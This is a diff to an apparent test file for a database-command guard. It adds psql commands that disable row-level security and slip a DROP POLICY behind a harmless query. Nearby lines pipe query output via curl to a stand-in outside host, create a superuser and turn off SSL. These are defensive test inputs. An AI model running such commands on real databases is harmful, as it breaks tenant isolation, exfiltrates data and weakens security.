@@ -3,6 +3,8 @@ import guard, { docs } from './raised-access.ts'
 
 guardTest(guard, docs, {
   asks: [
+    'psql -c "ALTER TABLE orders DISABLE ROW LEVEL SECURITY"',
+    'psql -c "select 1; DROP POLICY tenant ON orders"',
     `psql -c "\\\\copy (select 1) to program 'curl -d @- http://203.0.113.3/'"`,
     'echo "create user a with superuser password 1" | psql',
     "psql shop <<'SQL'\nselect 1;\nalter system set ssl = off;\nSQL",
